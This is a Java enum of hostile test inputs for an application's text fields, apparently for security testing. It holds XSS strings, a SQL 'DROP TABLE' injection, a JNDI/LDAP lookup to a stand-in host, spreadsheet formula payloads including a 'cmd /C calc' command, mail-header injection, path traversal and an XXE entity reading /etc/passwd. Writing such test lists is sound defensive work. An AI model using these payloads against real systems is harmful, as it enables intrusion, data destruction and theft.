package de.kontaktzyklus.story;

import java.util.List;

/** What somebody might write into a text field of a specialist application, by mistake or not. */
enum Attack {
    SCRIPT("<script>alert(1)</script>"),
    IMAGE_WITH_HANDLER("\"><img src=x onerror=alert(1)>"),
    END_OF_TABLE("</td></tr></table></body><form action=//böse.example>"),
    STYLE("</style><style>body{display:none}</style>"),
    SVG_IN_AN_ATTRIBUTE("' onmouseover='alert(1)"),
    TEMPLATE_EXPRESSION("${7*7}@raw()!{x}#{y}"),
    MESSAGE_PLACEHOLDER("{0} {nobody} '{1}' {0,number,#}"),
    CAMEL_EXPRESSION("${bean:administrator} {{smtp.password}} {{env:HOME}}"),
    LOG_LOOKUP("${jndi:ldap://boese.example/a} ${env:HOME}"),
    SQL("'; DROP TABLE mail; --"),
    FORMULA("=HYPERLINK(\"http://boese.example\";\"Klick\")"),
    FORMULA_PLUS("+49 161 0000000"),
    FORMULA_MINUS("-2+3+cmd|' /C calc'!A0"),
    FORMULA_AT("@SUM(A1:A9)"),
    FORMULA_AFTER_TAB("\t=1+1"),
    HEADER_LINE("Muster\r\nBcc: boss@boese.example\r\n\r\nNeuer Text"),
    HEADER_LINE_FEED_ONLY("Muster\nSubject: gewonnen"),
    ENCODED_WORD("=?UTF-8?Q?Muster=0D=0ABcc:boss=40boese.example?="),
    LOG_LINE("Muster\n2026-11-23T06:30:00.000+01:00 ERROR Kontaktzyklus - erfunden"),
    TERMINAL("\u001b[2J\u001b]0;gekapert\u0007"),
    NEXT_LINE("Muster\u0085Zeile\u2028Zeile\u2029Zeile"),
    BIDI("Muster \u202Efdp.exe\u202C \u2066x\u2069"),
    INVISIBLE("Mus\u200Bter\uFEFF\u00AD"),
    PATH("../../../../tmp/boese"),
    PATH_OF_WINDOWS("..\\..\\C:\\boese"),
    DEVICE("CON"),
    DEVICE_WITH_ENDING("nul.txt"),
    ONLY_DOTS(".."),
    LONG("x".repeat(400)),
    ADDRESS_LIST("v1@jobcenter.example, boss@boese.example"),
    MARKS_OF_XML("]]>&lt;!-- <!ENTITY x SYSTEM \"file:///etc/passwd\">&x;");

    final String text;

    Attack(String text) {
        this.text = text;
    }

    /** For addresses and numbers: the place in this list, counted from 0. */
    int number() {
        return List.of(values()).indexOf(this);
    }
}
